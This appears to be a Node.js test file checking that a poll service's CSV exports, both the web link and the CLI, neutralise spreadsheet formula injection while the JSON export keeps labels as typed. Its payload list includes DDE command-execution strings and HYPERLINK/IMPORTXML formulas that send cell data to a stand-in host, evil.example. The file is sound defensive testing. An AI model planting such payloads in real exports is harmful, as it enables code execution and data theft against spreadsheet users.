// CSV formula injection through the real export: a poll whose options start with =, +, -, @
// (also after white space, which is trimmed away when the poll is saved, and after a tab or a
// carriage return, which cannot be saved at all) is downloaded from the staff export link and
// with `involve poll export`.  No cell of either file may start a formula; the JSON export
// keeps the labels exactly as typed.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { createPoll } from '../lib/fixtures.mjs';
import { startServer } from '../lib/server.mjs';
import { setupOrg, signIn } from './common.mjs';

const FORMULAS = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1+1)',
	'=cmd|\' /C calc\'!A0',
	'@SUM(1+1)*cmd|\' /C calc\'!A0',
	'-2+3+cmd|\' /C calc\'!A0',
	'=HYPERLINK("http://evil.example/?"&A1,"Click here")',
	'=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
	'  =1+2',   // saved trimmed: "=1+2"
	'\t=1+3',   // the tab is white space at the start: trimmed too
];
const PLAIN = ['Yes = agree', 'A&E - urgent care', 'name@example.org'];

let server;
let token;
let staff;
let poll;

before(async () => {
	server = await startServer();
	token = (await setupOrg(server, 'bury', 'NHS Bury',
		[{ email: 'analyst@example.org', role: 'analyst' }, { email: 'admin@example.org', role: 'administrator' }]))['admin@example.org'];
	staff = await signIn(server, 'analyst@example.org');
	poll = await createPoll(server.url, token, { question: '=1+1 Which times suit you?', options: [...FORMULAS, ...PLAIN] });
	const vote = await fetch(`${server.url}/api/v1/polls/${poll.id}/votes`, {
		method: 'POST', headers: { 'Content-Type': 'application/json' },
		body: JSON.stringify({ options: [poll.options[0].id] }),
	});
	assert.equal(vote.status, 201);
});

after(async () => {
	if (server) await server.stop();
});

// RFC 4180: rows of cells, quoted cells unquoted.
function parseCsv(text) {
	const rows = [];
	let row = [];
	let i = 0;
	while (i < text.length) {
		let cell = '';
		if (text[i] === '"') {
			i++;
			for (;;) {
				assert.ok(i < text.length, 'unterminated quoted cell');
				if (text[i] === '"' && text[i + 1] === '"') {
					cell += '"';
					i += 2;
				} else if (text[i] === '"') {
					i++;
					break;
				} else {
					cell += text[i++];
				}
			}
		} else {
			while (i < text.length && text[i] !== ',' && text[i] !== '\r') cell += text[i++];
		}
		row.push(cell);
		if (text[i] === ',') {
			i++;
		} else {
			assert.equal(text.slice(i, i + 2), '\r\n', 'rows end with CRLF');
			i += 2;
			rows.push(row);
			row = [];
		}
	}
	return rows;
}

function assertNoFormula(rows, what) {
	for (const row of rows) {
		for (const cell of row) {
			assert.ok(!/^[=+\-@\t\r]/.test(cell), `${what}: the cell ${JSON.stringify(cell)} starts a formula`);
		}
	}
}

function expectedLabels() {
	return [...FORMULAS, ...PLAIN].map((l) => l.trim());
}

test('a tab, carriage return or other control character cannot be saved in a label', async () => {
	for (const label of ['=1\t+1', '=1\r+1', '\u0085=1']) {
		const res = await fetch(`${server.url}/api/v1/polls`, {
			method: 'POST',
			headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
			body: JSON.stringify({ question: 'Q?', options: [label, 'Other'] }),
		});
		assert.equal(res.status, 422, `${JSON.stringify(label)} is refused`);
	}
	assert.deepEqual(poll.options.map((o) => o.label), expectedLabels(), 'leading white space is trimmed');
});

test('the staff export link neutralises every formula', async () => {
	const res = await fetch(`${server.url}/staff/polls/${poll.id}/export?format=csv`, { headers: { Cookie: staff.cookie } });
	assert.equal(res.status, 200);
	assert.match(res.headers.get('content-type'), /^text\/csv/);
	assert.match(res.headers.get('content-disposition'), /^attachment; filename="poll-\d+-results\.csv"$/);
	assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
	const rows = parseCsv(await res.text());
	assert.deepEqual(rows[0], ['option_id', 'option', 'count', 'percent']);
	const labels = expectedLabels();
	assert.equal(rows.length, labels.length + 2, 'a header, a row per option and the total');
	for (const [i, label] of labels.entries()) {
		const cell = rows[i + 1][1];
		if (/^[=+\-@]/.test(label)) assert.equal(cell, `'${label}`, `${label} is prefixed`);
		else assert.equal(cell, label, `${label} is left as it is`);
	}
	assertNoFormula(rows, 'the staff export');
});

test('the command-line export neutralises them the same way', async () => {
	const r = await server.cli(['poll', 'export', '--org', 'bury', '--poll', String(poll.id), '--format', 'csv']);
	assert.equal(r.code, 0, r.stderr);
	const rows = parseCsv(r.stdout);
	assertNoFormula(rows, 'involve poll export');
	const web = await (await fetch(`${server.url}/staff/polls/${poll.id}/export?format=csv`, { headers: { Cookie: staff.cookie } })).text();
	assert.equal(r.stdout, web, 'the same file');
});

test('the JSON export keeps the labels as typed', async () => {
	const res = await fetch(`${server.url}/staff/polls/${poll.id}/export?format=json`, { headers: { Cookie: staff.cookie } });
	assert.equal(res.status, 200);
	const data = await res.json();
	assert.deepEqual(data.options.map((o) => o.label), expectedLabels());
	assert.equal(data.poll.question, '=1+1 Which times suit you?');
});
